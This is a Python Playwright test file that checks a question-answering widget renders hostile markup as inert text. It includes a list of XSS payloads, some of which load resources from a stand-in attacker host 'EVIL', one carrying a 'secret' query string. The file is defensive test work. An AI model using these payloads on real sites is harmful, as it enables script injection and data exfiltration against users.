"""Hostile words in the widget: asked, told, configured, and standing in the texts themselves."""

from __future__ import annotations

import json
from collections.abc import Iterator
from functools import partial
from typing import Any

import pytest
from playwright.sync_api import expect

from kzqa.config import load_config
from kzqa.domain import Corpus
from kzqa.pipeline import ask, build_index, open_library

from .conftest import embeddable, running
from .hosts import EVIL, KZQA, NGO, Reader, Site

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=//EVIL/a onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    '[click](javascript:alert(1)) <a href="javascript:alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "$$\\href{javascript:alert(1)}{x}$$",
    '```mermaid graph TD; A-->B; click A "javascript:alert(1)"```',
    "<kzqa-widget></kzqa-widget><kz-evil onclick=alert(1)></kz-evil>",
    "![a](http://EVIL/a.png)",
    "![a][b] [b]: http://EVIL/b.png",
    "![a](http://EVIL/a.png?q=secret)",
    "<picture><source srcset=//EVIL/c></picture>",
    "<video src=//EVIL/v autoplay></video>",
    "<audio src=//EVIL/a autoplay></audio>",
    "<div style='background:url(//EVIL/d)'>x</div>",
    "<style>@import '//EVIL/e';</style>",
    "<link rel=stylesheet href=//EVIL/f>",
    "<meta http-equiv=refresh content='0;url=//EVIL'>",
    "<object data=//EVIL/o></object><embed src=//EVIL/p>",
    "<form action=//EVIL><input name=q><button>go</button></form>",
    "<div style='position:fixed;inset:0;z-index:99999'>overlay</div>",
    "\u202egnirts desrever\u202c \u200bzero\u200dwidth \u2066isolate\u2069 end",
    "Z" + "\u0301\u0302\u0303\u0304\u0308" * 30 + "algo marks",
    "</script></main></body>&lt;b&gt; &#60;b&#62; {{7*7}} ${7*7} %3Cb%3E",
    "data: done event: error retry: 1",
    "__proto__ constructor toString prison",
)
"""The kinds of shared/WEB.md, and more. EVIL stands for a host that really listens."""


def meant(payload: str) -> str:
    return payload.replace("EVIL", EVIL)


@pytest.fixture(scope="module")
def bad(tmp_path_factory: pytest.TempPathFactory, ngo: Site) -> Iterator[tuple[str, Corpus]]:
    """kzqa over a corpus of one text, each of whose paragraphs is a payload; its origin, and the corpus."""
    folder = tmp_path_factory.mktemp("hostile-corpus")
    paragraphs = "\n\n".join(f"{n}. Notes {meant(payload)} in prison;" for n, payload in enumerate(PAYLOADS, start=1))
    head = "European Parliament resolution on prisons\n\nThe European Parliament,\n\nA. whereas there are prisons;\n\n"
    (folder / "bad.txt").write_text(f"{head}{paragraphs}\n", encoding="utf-8")
    title = json.dumps(meant(PAYLOADS[1]))
    (folder / "sources.toml").write_text(
        f"""[[source]]\nid = "bad"\nfile = "bad.txt"\ntitle = {title}\nshort = {title}\nissuer = {title}\n"""
        """procedure = "2020/0001(RSP)"\nyear = 2020\nlanguage = "en"\nstatus = "motion"\n""",
        encoding="utf-8",
    )
    config = load_config(corpus=folder, index=tmp_path_factory.mktemp("hostile-index"))
    build_index(config)
    library = open_library(config)
    with running(config, library.corpus, partial(ask, library), **embeddable(ngo)) as address:
        yield address.replace("127.0.0.1", KZQA), library.corpus


def visit(reader: Reader, ngo: Site, kzqa: str, **attributes: str) -> None:
    """Go to a page whose policy forbids nothing: the widget alone must hold."""
    words = " ".join(f'data-{name}="{escaped(value)}"' for name, value in attributes.items())
    reader.page.goto(ngo.origin(NGO) + ngo.put(words, kzqa=kzqa, policy=""))
    reader.open()


def escaped(value: str) -> str:
    return value.replace("&", "&amp;").replace('"', "&quot;")


def harmless(reader: Reader, evil: Site) -> None:
    """Nothing ran, nothing was fetched, nothing covers the page, and there is no element that is not ours."""
    elements = reader.frame.evaluate("[...new Set([...document.querySelectorAll('.turn *')].map((e) => e.localName))]")
    ours = {"a", "bdi", "blockquote", "button", "div", "h2", "li", "mark", "p", "strong", "ul"}
    assert set(elements) <= ours
    assert reader.frame.evaluate("document.querySelectorAll('.turn [style], .turn [src], .turn [onclick]').length") == 0
    links = reader.frame.evaluate("[...document.querySelectorAll('.turn a')].map((e) => e.origin + e.pathname)")
    assert {link.partition("/texts/")[0] for link in links} <= {reader.frame.evaluate("origin")}
    assert reader.hosts() == {NGO, KZQA}
    assert evil.heard == []
    assert not [complaint for complaint in reader.complaints if "404" not in complaint and "422" not in complaint]
    covering = "document.elementFromPoint(innerWidth / 2, innerHeight - 60).closest('form, footer') !== null"
    assert reader.frame.evaluate(covering)


def test_a_listener_hears_what_a_page_without_care_would_fetch(reader: Reader, ngo: Site, evil: Site) -> None:
    path = ngo.put(kzqa="", body=f"<img src=//{EVIL}/proof>", policy="")
    reader.page.goto(ngo.origin(NGO) + path)
    assert [path for _, path in evil.heard] == ["/proof"]
    evil.heard.clear()


def test_a_text_full_of_markup_is_shown_as_the_text_it_is(
    reader: Reader, ngo: Site, evil: Site, bad: tuple[str, Corpus]
) -> None:
    origin, corpus = bad
    visit(reader, ngo, origin)
    shown = 0
    for number in range(1, len(PAYLOADS) + 1):
        turn = reader.ask(f"2020/0001(RSP), paragraph {number}")
        text = corpus.by_id[f"bad#paragraph-{number}"].text
        quote = turn.locator("blockquote p").first
        if quote.count():
            assert (quote.text_content() or "?") in text
            shown += 1
            turn.locator(".cite").first.click()
        else:
            turn.locator("li .cite").first.click()
        expect(turn.locator(".paragraph").first).to_be_visible()
        found = turn.locator(".paragraph").first.text_content()
        assert found in [paragraph.text for paragraph in corpus.paragraphs]
    assert shown == len(PAYLOADS)
    harmless(reader, evil)


def test_a_question_and_what_was_asked_before_are_shown_as_typed(
    reader: Reader, ngo: Site, evil: Site, kzqa: str
) -> None:
    visit(reader, ngo, kzqa)
    for payload in PAYLOADS:
        turn = reader.ask(meant(payload))
        assert turn.locator("h2").text_content() == meant(payload).strip()
    harmless(reader, evil)


def test_a_snippets_own_words_are_words(reader: Reader, ngo: Site, evil: Site, kzqa: str) -> None:
    payload = meant(" ".join(PAYLOADS))
    visit(
        reader, ngo, kzqa, title=payload, greeting=payload, color=payload, scope=payload, position=payload, lang=payload
    )
    assert reader.panel.get_by_role("heading").text_content() == payload
    assert reader.chat.locator("#greeting").text_content() == payload
    assert evil.heard == []
    assert reader.hosts() == {NGO, KZQA}
    assert not reader.complaints


@pytest.mark.parametrize("broken", ["text", "citations", "list"])
def test_an_answer_that_is_not_what_it_should_be_is_a_lost_connection_and_no_broken_page(
    reader: Reader, ngo: Site, evil: Site, kzqa: str, broken: str
) -> None:
    whole: dict[str, Any] = {
        "status": "answered",
        "statements": [{"text": "x", "kind": "quote", "citations": ["a#b"]}],
        "citations": [],
        "nearest": [],
        "reason": None,
    }
    odd: dict[str, dict[str, Any]] = {
        "text": {"statements": [{"kind": "quote"}]},
        "citations": {"citations": None},
        "list": {"statements": 7},
    }
    body = f"event: done\ndata: {json.dumps({**whole, **odd[broken]})}\n\n"
    reader.page.context.route(
        "**/api/v1/ask", lambda route: route.fulfill(body=body, content_type="text/event-stream"), times=1
    )
    visit(reader, ngo, kzqa)
    expect(reader.ask("Anything?").locator(".card")).to_be_visible()
    expect(reader.ask("What happened to Bota Jardemalie?").locator("blockquote").first).to_be_visible()
    assert evil.heard == []
